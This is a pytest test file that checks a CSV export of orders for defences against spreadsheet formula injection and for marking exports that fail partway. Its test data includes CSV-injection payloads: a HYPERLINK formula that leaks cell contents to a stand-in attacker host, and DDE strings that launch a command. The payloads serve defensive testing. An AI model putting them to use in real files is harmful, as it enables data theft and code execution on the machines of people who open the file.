"""The CSV export opened in a spreadsheet (issue 14, findings 1 and 3): a text
cell that starts like a formula is exported as text, and an export that fails
midway ends with a line that says so instead of looking complete."""

from __future__ import annotations

import codecs
import csv
import io
from http import HTTPStatus

import pytest

from orders.supervisor import listing
from tests import factories

CSV = "/pilotage/commandes.csv"


@pytest.fixture
def signed_in(client, supervisor):
    client.force_login(supervisor)
    return client


def csv_rows(response) -> list[list[str]]:
    text = codecs.decode(b"".join(response.streaming_content), "utf-8-sig")
    return list(csv.reader(io.StringIO(text), delimiter=";"))


@pytest.mark.parametrize(
    "name",
    [
        '=HYPERLINK("http://evil.example/?"&A1;"Cliquez")',
        "+33 6 12 34 56 78",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
    ],
)
def test_an_occupant_name_that_looks_like_a_formula_is_exported_as_text(signed_in, contract, name):
    factories.an_order(contract, "OPH57-0001", occupant_name=name)

    header, row = csv_rows(signed_in.get(CSV))

    occupant = row[header.index("Occupant")]
    assert occupant == "'" + name
    assert occupant[0] not in "=+-@\t\r"


def test_every_text_cell_is_neutralised(signed_in, technician):
    client = factories.make_client(name="=1+2")
    contract = factories.make_contract(client, reference="@MARCHE")
    asset = factories.make_asset(client, address="-1 rue", postcode="+57000", city="=Metz")
    technician.first_name, technician.last_name = "=Karim", "Haddad"
    technician.save()
    factories.an_order(contract, "=REF", asset=asset, technician=technician, occupant_name="Mme Martin")

    header, row = csv_rows(signed_in.get(CSV))

    for column in ("Référence", "Client", "Marché", "Adresse", "Code postal", "Ville", "Technicien"):
        assert row[header.index(column)].startswith("'"), column
    assert row[header.index("Occupant")] == "Mme Martin"


def test_ordinary_values_are_left_alone(signed_in, contract):
    factories.an_order(contract, "OPH57-0001", occupant_name="Mme Claire Martin-Dupont")

    header, row = csv_rows(signed_in.get(CSV))

    assert row[header.index("Occupant")] == "Mme Claire Martin-Dupont"
    assert row[header.index("Montant HT (€)")] == "0,00"


def test_an_export_that_fails_midway_does_not_look_complete(signed_in, contract, monkeypatch):
    for number in range(3):
        factories.an_order(contract, f"OPH57-000{number}")
    formatted = listing._csv_row
    seen = []

    def failing_on_the_second_row(row):
        seen.append(row)
        if len(seen) == 2:
            raise RuntimeError("connection to the database lost")
        return formatted(row)

    # The edge: a database that fails while the rows stream (the view has already answered 200).
    monkeypatch.setattr(listing, "_csv_row", failing_on_the_second_row)
    response = signed_in.get(CSV)
    assert response.status_code == HTTPStatus.OK

    chunks = []
    with pytest.raises(RuntimeError):
        chunks.extend(response.streaming_content)
    text = codecs.decode(b"".join(chunks), "utf-8-sig")
    assert text.splitlines()[-1].startswith("EXPORT INCOMPLET")
